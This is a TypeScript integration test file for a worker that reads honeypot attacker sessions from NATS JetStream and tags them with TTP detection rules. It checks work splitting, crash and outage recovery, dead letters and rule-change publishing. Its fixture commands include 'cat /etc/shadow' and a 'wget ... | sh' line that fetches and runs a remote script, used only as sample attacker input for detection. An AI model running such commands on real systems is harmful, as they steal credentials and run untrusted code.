// The NATS JetStream data plane with real nats-server processes and real `ttp worker` processes:
// a consumer group splitting the work, SIGKILL mid-stream, a server stop/start, dead letters, the
// NATS sink, the master's change publisher across its own restart, subject-prefix isolation.
import { readdir, readFile, mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import Database from "better-sqlite3";
import pg from "pg";
import { createTestPgDatabase, TEST_PG_ADMIN_URL, terminateBackends } from "../db/testing/pg";
import { jetstream, jetstreamManager, type JetStreamClient, type JetStreamManager } from "@nats-io/jetstream";
import { connect, type NatsConnection } from "@nats-io/transport-node";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { Engine } from "../lib/engine/engine";
import { DatabaseRuleStore } from "../lib/store/database-store";
import { SEQ_HEADER } from "../lib/worker/change-publisher";
import { ensureConsumer, ensureStreams, outputStreamName } from "../lib/worker/nats";
import { eventsFromMessage } from "../lib/worker/nats-envelope";
import { TestNatsServer } from "../lib/worker/testing/nats-server";
import { freePort, killAll, ROOT, WorkerProc, waitUntil } from "../lib/worker/testing/worker-proc";

let tmp: string;
let server: TestNatsServer;
let nc: NatsConnection;
let js: JetStreamClient;
let jsm: JetStreamManager;
let n = 0;

const COMMANDS = ["cat /etc/shadow", "uname -a", "wget http://198.51.100.7/x.sh -O- | sh", "ls -la /tmp", "id", "crontab -l"];

function sessionEnvelope(i: number, tag: string): { subject: string; data: string; id: string } {
  const id = `${tag}-${i}`;
  const payload = { session_id: `sess-${id}`, attacker_uuid: `att-${i % 13}`, decky_id: "decky-1", commands: [COMMANDS[i % COMMANDS.length], COMMANDS[(i + 1) % COMMANDS.length], { id: `cmd-${id}`, command: "uname -a" }] };
  return { subject: "attacker.session.ended", id, data: JSON.stringify({ v: 1, id, topic: "attacker.session.ended", type: "session.ended", ts: 1.7e9 + i, payload }) };
}

async function publishAll(msgs: { subject: string; data: string; id: string }[], prefix = ""): Promise<void> {
  for (let i = 0; i < msgs.length; i += 500) {
    await Promise.all(msgs.slice(i, i + 500).map((m) => js.publish(prefix + m.subject, m.data, { msgID: m.id })));
  }
}

async function packStore(url: string): Promise<DatabaseRuleStore> {
  const store = new DatabaseRuleStore({ url, expiry: false });
  const dir = path.join(ROOT, "rules/ttp");
  for (const f of (await readdir(dir)).filter((x) => x.endsWith(".yaml")).sort()) {
    await store.upsertRule(await readFile(path.join(dir, f), "utf8"), { actor: "test", origin: "import" });
  }
  return store;
}

/** What `ttp eval` gives for the same messages: the tag ids at or above the default floor. */
async function expectedTagIds(store: DatabaseRuleStore, msgs: { subject: string; data: string }[]): Promise<Set<string>> {
  const engine = new Engine();
  engine.replaceAll((await store.loadCompiled()).rules);
  const ids = new Set<string>();
  for (const m of msgs) {
    const r = eventsFromMessage(m.subject, m.data);
    if (!r.ok) continue;
    for (const e of r.events) for (const t of engine.evaluate(e)) if (t.confidence >= 0.3) ids.add(t.uuid);
  }
  return ids;
}

function tagIds(dbFile: string): string[] {
  const db = new Database(dbFile, { readonly: true, fileMustExist: true });
  try {
    return (db.prepare("SELECT uuid FROM ttp_tag").all() as { uuid: string }[]).map((r) => r.uuid);
  } finally {
    db.close();
  }
}

async function streamMessages(stream: string, filter: string): Promise<{ subject: string; data: string; headers: Record<string, string> }[]> {
  const out: { subject: string; data: string; headers: Record<string, string> }[] = [];
  const info = await jsm.streams.info(stream);
  for (let seq = info.state.first_seq; seq <= info.state.last_seq && info.state.messages > 0; seq++) {
    const m = await jsm.streams.getMessage(stream, { seq }).catch(() => null);
    if (!m) continue;
    const f = filter.endsWith(">") ? m.subject.startsWith(filter.slice(0, -1)) : m.subject === filter;
    if (!f) continue;
    const headers: Record<string, string> = {};
    for (const k of m.header?.keys() ?? []) headers[k] = m.header.get(k);
    out.push({ subject: m.subject, data: m.string(), headers });
  }
  return out;
}

/** Refuses (or accepts again) every connection to the database, killing the current ones. */
async function pgOutage(name: string, down: boolean): Promise<void> {
  const admin = new pg.Client({ connectionString: TEST_PG_ADMIN_URL });
  await admin.connect();
  try {
    await admin.query(`ALTER DATABASE ${name} ALLOW_CONNECTIONS ${down ? "false" : "true"}`);
  } finally {
    await admin.end();
  }
  if (down) await terminateBackends(name);
}

async function ackedBy(port: number): Promise<number> {
  const text = await (await fetch(`http://127.0.0.1:${port}/metrics`)).text();
  return Number(/^ttp_worker_nats_messages_total\{result="acked"[^}]*\} (\d+)/m.exec(text)?.[1] ?? 0);
}

function startWorker(label: string, dbFile: string, args: string[]): WorkerProc {
  const env = { ...process.env, TTP_RULE_STORE: "database", DATABASE_URL: `file:${dbFile}`, TTP_LOG_LEVEL: "info" };
  return new WorkerProc(label, ["worker", "--role", "worker", "--id", label, "--nats", server.url, "--report-interval", "0", ...args], env);
}

async function consumerCounts(stream: string, durable: string): Promise<{ pending: number; ackPending: number }> {
  const info = await jsm.consumers.info(stream, durable).catch(() => null);
  return info ? { pending: info.num_pending, ackPending: info.num_ack_pending } : { pending: -1, ackPending: -1 };
}

beforeAll(async () => {
  tmp = await mkdtemp(path.join(tmpdir(), "ttp-nats-test-"));
  server = await TestNatsServer.start();
  nc = await connect({ servers: server.url, maxReconnectAttempts: -1, reconnectTimeWait: 200 });
  js = jetstream(nc);
  jsm = await jetstreamManager(nc);
}, 30_000);

afterAll(async () => {
  await nc?.close();
  await server?.dispose();
  await rm(tmp, { recursive: true, force: true });
});

afterEach(async () => {
  await killAll();
});

describe("NATS JetStream data plane (real nats-server, real worker processes)", () => {
  it("ttp nats init creates both streams, is idempotent, and isolates subject prefixes by stream", async () => {
    const stream = `INIT${++n}`;
    expect(await ensureStreams(jsm, { stream, prefix: "site-a." })).toEqual([
      `created stream ${stream} over site-a.attacker.>, site-a.identity.>, site-a.credential.>, site-a.email.>, site-a.canary.>, site-a.ttp.input.>`,
      `created stream ${stream}_TTP over site-a.ttp.tagged, site-a.ttp.rule.>, site-a.ttp.deadletter`,
    ]);
    expect(await ensureStreams(jsm, { stream, prefix: "site-a." })).toEqual([`stream ${stream} is up to date`, `stream ${stream}_TTP is up to date`]);
    await ensureStreams(jsm, { stream: `${stream}B`, prefix: "site-b." });
    await js.publish("site-a.attacker.observed", "{}");
    expect((await jsm.streams.info(stream)).state.messages).toBe(1);
    expect((await jsm.streams.info(`${stream}B`)).state.messages).toBe(0);
  });

  it("two workers share one durable: the work is split, one is SIGKILLed mid-stream, nothing is lost or duplicated; session fan-out ids", async () => {
    const stream = `GROUP${++n}`;
    await ensureStreams(jsm, { stream, prefix: "" });
    const dbFile = path.join(tmp, `group-${n}.db`);
    const store = await packStore(`file:${dbFile}`);
    const msgs = Array.from({ length: 3000 }, (_, i) => sessionEnvelope(i, `g${n}`));
    const expected = await expectedTagIds(store, msgs);
    expect(expected.size).toBeGreaterThan(3000);
    const common = ["--stream", stream, "--durable", "taggers", "--sink", "db", "--ack-wait", "2s", "--batch", "20"];
    const [pa, pb] = await Promise.all([freePort(), freePort()]);
    const a = startWorker("wa", dbFile, [...common, "--port", String(pa)]);
    const b = startWorker("wb", dbFile, [...common, "--port", String(pb), "--threads", "1"]);
    await Promise.all([a.waitReady(30_000), b.waitReady(30_000)]);
    await new Promise((r) => setTimeout(r, 300));
    await publishAll(msgs);
    // Both take part before one is killed.
    await waitUntil(async () => (await ackedBy(pa)) > 0 && (await ackedBy(pb)) > 0, "both workers acknowledging", 30_000);
    a.kill("SIGKILL");
    await a.exited;
    expect(tagIds(dbFile).length).toBeLessThan(expected.size);
    await waitUntil(() => tagIds(dbFile).length >= expected.size, "every tag", 60_000);
    await waitUntil(async () => {
      const c = await consumerCounts(stream, "taggers");
      return c.pending === 0 && c.ackPending === 0;
    }, "every message acknowledged", 30_000);
    const got = tagIds(dbFile);
    expect(new Set(got)).toEqual(expected);
    expect(got.length).toBe(expected.size);
    // Fan-out ids: `<session source_id>#cmd<i>`, or the command's own id.
    const db = new Database(dbFile, { readonly: true });
    const sourceIds = new Set((db.prepare("SELECT DISTINCT source_id FROM ttp_tag WHERE source_kind = 'command'").all() as { source_id: string }[]).map((r) => r.source_id));
    db.close();
    expect(sourceIds.has(`sess-g${n}-1#cmd0`)).toBe(true);
    expect(sourceIds.has(`cmd-g${n}-1`)).toBe(true);
    await b.stop();
    const bFinished = b.log("input finished") as { events: number } | undefined;
    expect(bFinished?.events).toBeGreaterThan(0);
    // b did not do everything alone before a was killed: a took part (its tags predate the kill).
    expect(bFinished?.events).toBeLessThan(msgs.length * 4);
    await store.close();
  }, 120_000);

  it("poison messages are dead-lettered with their reason and acknowledged; good ones are tagged and published by the NATS sink once", async () => {
    const stream = `POISON${++n}`;
    const prefix = "p.";
    await ensureStreams(jsm, { stream, prefix });
    const dbFile = path.join(tmp, `poison-${n}.db`);
    const store = await packStore(`file:${dbFile}`);
    const good = sessionEnvelope(1, `poison${n}`);
    // A message whose processing keeps failing: delivered and not acknowledged 5 times already
    // (here by a raw consumer that naks it), the worker dead-letters it instead of processing it.
    await js.publish("p.ttp.input.command", JSON.stringify({ source_id: "keeps-failing", attacker_uuid: "a", payload: { command_text: "id" } }));
    await ensureConsumer(jsm, { stream, durable: "poison", ackWaitMs: 2000, maxAckPending: 1000 });
    const raw = await js.consumers.get(stream, "poison");
    for (let round = 0; round < 5; round++) {
      const batch = await raw.fetch({ max_messages: 1, expires: 2000 });
      for await (const m of batch) m.nak();
    }
    await js.publish("p.attacker.observed", "{not json");
    await js.publish("p.attacker.observed", JSON.stringify([1, 2]));
    await js.publish("p.attacker.session.ended", JSON.stringify({ v: 1, id: "x", type: "session.ended", payload: { session_id: "s-no-anchor", commands: ["id"] } }));
    await js.publish("p.attacker.fingerprinted", JSON.stringify({ v: 1, id: "y", type: "martian_kind", payload: { attacker_uuid: "a" } }));
    await js.publish("p.ttp.input.command", JSON.stringify({ source_id: "own-1", attacker_uuid: "a", payload: { command_text: "cat /etc/shadow" } }));
    await js.publish(prefix + good.subject, good.data, { msgID: good.id });
    const w = startWorker("wp", dbFile, ["--stream", stream, "--durable", "poison", "--subject-prefix", prefix, "--sink", "db,nats", "--ack-wait", "2s"]);
    await w.waitReady(30_000);
    await waitUntil(async () => (await consumerCounts(stream, "poison")).ackPending === 0 && (await consumerCounts(stream, "poison")).pending === 0, "all acknowledged", 30_000);
    const dead = (await streamMessages(outputStreamName(stream), "p.ttp.deadletter")).map((m) => JSON.parse(m.data) as { reason: string; subject: string });
    expect(dead.map((d) => d.reason).sort()).toEqual(["bad_envelope", "malformed_json", "max_deliver", "no_anchor", "unknown_source_kind"]);
    const expected = await expectedTagIds(store, [{ subject: good.subject, data: good.data }, { subject: "ttp.input.command", data: JSON.stringify({ source_id: "own-1", attacker_uuid: "a", payload: { command_text: "cat /etc/shadow" } }) }]);
    await waitUntil(() => tagIds(dbFile).length >= expected.size, "tags", 10_000);
    expect(new Set(tagIds(dbFile))).toEqual(expected);
    const tagged = await streamMessages(outputStreamName(stream), "p.ttp.tagged");
    const fired = await streamMessages(outputStreamName(stream), "p.ttp.rule.fired.>");
    const eventsWithTags = new Set<string>();
    const db = new Database(dbFile, { readonly: true });
    const rows = db.prepare("SELECT source_id, technique_id FROM ttp_tag").all() as { source_id: string; technique_id: string }[];
    db.close();
    for (const r of rows) eventsWithTags.add(r.source_id);
    expect(tagged).toHaveLength(eventsWithTags.size);
    expect(fired).toHaveLength(new Set(rows.map((r) => `${r.source_id}|${r.technique_id}`)).size);
    const env = JSON.parse(tagged[0]!.data) as { v: number; topic: string; type: string; payload: Record<string, unknown> };
    expect(env).toMatchObject({ v: 1, topic: "ttp.tagged", type: "ttp.tagged" });
    expect(Object.keys(env.payload).sort()).toEqual(["attacker_uuid", "identity_uuid", "session_id", "tag_uuids", "techniques_added"]);
    expect(tagged[0]!.headers["Nats-Msg-Id"]).toMatch(/^p\.ttp\.tagged:/);
    await w.stop();
    await store.close();
  }, 90_000);

  it("a nats-server stop/start: the worker pauses, says why on /healthz, reconnects and resumes where the consumer left off", async () => {
    const stream = `OUTAGE${++n}`;
    await ensureStreams(jsm, { stream, prefix: "o." });
    const dbFile = path.join(tmp, `outage-${n}.db`);
    const store = await packStore(`file:${dbFile}`);
    const first = Array.from({ length: 200 }, (_, i) => sessionEnvelope(i, `o${n}a`));
    const second = Array.from({ length: 200 }, (_, i) => sessionEnvelope(i, `o${n}b`));
    const expected = await expectedTagIds(store, [...first, ...second]);
    await publishAll(first, "o.");
    const port = await freePort();
    const w = startWorker("wo", dbFile, ["--stream", stream, "--durable", "outage", "--subject-prefix", "o.", "--sink", "db", "--ack-wait", "2s", "--port", String(port)]);
    const health = async (): Promise<{ status: string; reason?: string; nats?: { stream: string; durable: string; connected: boolean } }> =>
      (await fetch(`http://127.0.0.1:${port}/healthz`)).json() as Promise<{ status: string; reason?: string }>;
    await w.waitReady(30_000);
    const firstIds = await expectedTagIds(store, first);
    await waitUntil(() => tagIds(dbFile).length >= firstIds.size, "the first half", 30_000);
    expect((await health()).nats).toMatchObject({ stream, durable: "outage" });
    await server.stop();
    const paused = await waitUntil(async () => {
      const h = await health();
      return h.status === "stale" && h.reason?.includes("input paused") ? h : null;
    }, "/healthz saying why input is paused", 20_000);
    expect(paused.nats?.connected).toBe(false);
    await server.resume();
    await waitUntil(() => !nc.isClosed() && nc.info !== undefined, "test client back", 10_000);
    await waitUntil(async () => {
      try {
        await publishAll(second, "o.");
        return true;
      } catch {
        return false;
      }
    }, "publishing after the restart", 20_000);
    await waitUntil(() => tagIds(dbFile).length >= expected.size, "every tag after the restart", 60_000);
    expect(new Set(tagIds(dbFile))).toEqual(expected);
    await waitUntil(async () => ((await health()).status === "ok" ? true : null), "/healthz ok again", 20_000);
    await w.stop();
    await store.close();
  }, 120_000);

  it("a PostgreSQL outage under the db sink: input pauses, held messages stay alive, nothing is dead-lettered or lost", async () => {
    const stream = `PGOUT${++n}`;
    const prefix = "pg.";
    await ensureStreams(jsm, { stream, prefix });
    const db = await createTestPgDatabase();
    try {
      const store = await packStore(db.url);
      const msgs = Array.from({ length: 300 }, (_, i) => sessionEnvelope(i, `pg${n}`));
      const expected = await expectedTagIds(store, msgs);
      await store.close();
      const env = { ...process.env, TTP_RULE_STORE: "database", DATABASE_URL: db.url, TTP_LOG_LEVEL: "info" };
      const w = new WorkerProc("wpg", ["worker", "--role", "worker", "--id", "wpg", "--nats", server.url, "--stream", stream, "--subject-prefix", prefix, "--durable", "pgout", "--sink", "db", "--ack-wait", "2s", "--report-interval", "0"], env);
      await w.waitReady(30_000);
      await pgOutage(db.name, true);
      await publishAll(msgs.slice(0, 150), prefix);
      // Longer than AckWait: without in-progress acks these would be redelivered (and counted).
      await new Promise((r) => setTimeout(r, 5000));
      await pgOutage(db.name, false);
      await publishAll(msgs.slice(150), prefix);
      const count = async (): Promise<number> => {
        const c = new pg.Client({ connectionString: db.url });
        await c.connect();
        try {
          return Number((await c.query<{ n: string }>("SELECT count(*) AS n FROM ttp_tag")).rows[0]?.n);
        } finally {
          await c.end();
        }
      };
      await waitUntil(async () => (await count()) >= expected.size, "every tag after the outage", 60_000).catch((err: unknown) => {
        throw new Error(`${String(err)}\n${w.describe()}`);
      });
      await waitUntil(async () => {
        const c = await consumerCounts(stream, "pgout");
        return c.pending === 0 && c.ackPending === 0;
      }, "all acknowledged", 30_000);
      expect(await count()).toBe(expected.size);
      expect(await streamMessages(outputStreamName(stream), "pg.ttp.deadletter")).toEqual([]);
      const info = await jsm.consumers.info(stream, "pgout");
      expect(info.num_redelivered).toBe(0);
      await w.stop();
    } finally {
      await db.drop();
    }
  }, 120_000);

  it("the master publishes ttp.rule.reloaded/state once per change seq, in order, across its own restart", async () => {
    const stream = `MASTER${++n}`;
    const prefix = "m.";
    await ensureStreams(jsm, { stream, prefix });
    const dbFile = path.join(tmp, `master-${n}.db`);
    const rulesDir = await mkdtemp(path.join(tmp, "rules-"));
    const { writeFile } = await import("node:fs/promises");
    const { validRuleYaml } = await import("../lib/store/testing/fixtures");
    await writeFile(path.join(rulesDir, "R1.yaml"), validRuleYaml("R1"));
    await writeFile(path.join(rulesDir, "R2.yaml"), validRuleYaml("R2"));
    const env = { ...process.env, TTP_RULE_STORE: "database", TTP_RULES_DIR: rulesDir, DATABASE_URL: `file:${dbFile}`, TTP_LOG_LEVEL: "info" };
    const args = ["worker", "--role", "master", "--id", "m1", "--report-interval", "0", "--nats", server.url, "--stream", stream, "--subject-prefix", prefix];
    let master = new WorkerProc("master", args, env);
    await master.waitReady(30_000);
    const store = new DatabaseRuleStore({ url: `file:${dbFile}`, expiry: false });
    await store.setState("R1", { state: "disabled", reason: "noisy" }, "alice");
    await store.clearState("R1", "bob");
    const published = async (): Promise<{ subject: string; data: string; headers: Record<string, string> }[]> =>
      (await streamMessages(outputStreamName(stream), "m.ttp.rule.>")).filter((m) => !m.subject.startsWith("m.ttp.rule.fired."));
    await waitUntil(async () => (await published()).length === (await store.headSeq()), "changes published", 20_000);
    await master.stop();
    // Changes while the master is down, from another writer.
    await store.setState("R2", { state: "clipped", confidence_max: 0.5 }, "carol");
    await store.deleteRule("R1", { actor: "dave" });
    master = new WorkerProc("master2", args, env);
    await master.waitReady(30_000);
    const head = await store.headSeq();
    await waitUntil(async () => (await published()).length >= head, "changes published after the restart", 20_000);
    await new Promise((r) => setTimeout(r, 500));
    const all = await published();
    expect(all.map((m) => Number(m.headers[SEQ_HEADER]))).toEqual(Array.from({ length: head }, (_, i) => i + 1));
    expect(all.map((m) => m.headers["Nats-Msg-Id"])).toEqual(Array.from({ length: head }, (_, i) => `ttp.change:${i + 1}`));
    const payloads = all.map((m) => [m.subject, (JSON.parse(m.data) as { payload: unknown }).payload]);
    // After the deletes, the restarted master's reconciliation re-creates R1 from its file (one more change).
    expect(payloads.slice(2, 7)).toEqual([
      ["m.ttp.rule.state.R1", { rule_id: "R1", state: "disabled", set_by: "alice" }],
      ["m.ttp.rule.state.R1", { rule_id: "R1", state: "enabled", set_by: null }],
      ["m.ttp.rule.state.R2", { rule_id: "R2", state: "clipped", set_by: "carol" }],
      ["m.ttp.rule.reloaded.R1", { rule_id: "R1", deleted: true }],
      ["m.ttp.rule.reloaded.R1", { rule_id: "R1", rule_version: 1 }],
    ]);
    expect(payloads[0]).toEqual(["m.ttp.rule.reloaded.R1", { rule_id: "R1", rule_version: 1 }]);
    await master.stop();
    await store.close();
  }, 90_000);
});
